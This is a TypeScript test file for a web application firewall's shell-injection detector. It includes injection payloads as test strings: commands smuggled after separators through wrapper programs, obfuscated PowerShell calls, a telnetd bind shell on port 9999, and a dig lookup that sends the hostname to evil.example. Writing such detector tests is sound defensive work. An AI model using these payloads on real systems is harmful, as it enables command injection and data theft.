import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectShell } from '../../../../src/guard/decide/waf/detect/shell/shell.ts';

const score = (text: string): number => detectShell(text)?.score ?? 0;
const run = (texts: readonly string[]): void => {
  for (const text of texts) assert.ok(score(text) >= 50, `${score(text)}: ${text}`);
};
const pass = (texts: readonly string[]): void => {
  for (const text of texts) assert.ok(score(text) < 50, `${score(text)}: ${text}`);
};

test('groups, branches and functions that are called behind a value and a separator run what they hold', () => {
  run([';{ id; }', 'x;f(){ whoami; }; f', ';case a in a) id;; esac', 'x|case $x in *) whoami;; esac']);
  pass([
    'interface A { id; date; }',
    'class A { get(){ id; } }',
    'a, f(){ id; }; g',
    'in this case a in b) id',
  ]);
});

test('a program that is told to run another one by an option or its own words is seen through', () => {
  run(['x; man -P id ls', 'x;pidstat -e id', 'x;hash -p /usr/bin/id x; x', 'x;mosh --server=id x']);
  run(['x;ip netns exec n id', 'x;perf stat id', 'x;perf record -o /dev/null id']);
  pass(['; man up', '; hash -r', '; perf date', '; man date', '; ip address and date']);
});

test('wrappers of containers, daemons and schedulers are seen through', () => {
  run([
    'x;gosu root id',
    'x;su-exec root id',
    'x;tini -- id',
    'x;dumb-init id',
    'x;setlock l id',
    'x;numactl -C0 id',
  ]);
  run([
    'x;valgrind id',
    'x;runcon -t x id',
    'x;sshpass -p x id',
    'x;newgrp root -c id',
    'x;choom -n 0 id',
    'x;sem id',
  ]);
  run(['x;cpulimit -l 50 id', 'x;eatmydata id', 'x;aa-exec id', 'x;mksh -c id']);
  pass(['sal; sem sal', 'gosu; tini', 'softlimit of 5; setlock']);
});

test('signals of a trap and inputs of parallel are no arguments of what runs', () => {
  run(["x;trap 'id' 0", 'x;trap id EXIT', 'x;parallel id ::: 1']);
  pass(['; trap the cat', 'x; trap mice']);
});

test('names that PowerShell puts together, from strings or letters, are called', () => {
  run(["; &('wh'+'oami')", "; & ('who' + 'ami')", `; &("{1}{0}"-f'ami','who')`, "; $x='who'+'ami';&$x"]);
  run(["; . ( $env:comspec[4,24,25]-join'')'whoami'"]);
  pass([
    "$a = 'b'; $c = &$a;",
    "f('a' + 'b') & ('c')",
    'a & (b + c)',
    '$x[1,2] and join',
    "if (a &('x' == 'y'))",
  ]);
});

test('daemons that give a shell, lookups of what a command prints and files that zsh lists are commands', () => {
  run(['1;telnetd -l /bin/sh -p 9999', ';dig +short $(hostname).evil.example', 'x;print -rl -- /etc/*']);
  pass(['; print more', '; print invoice', '; dig + plant']);
});
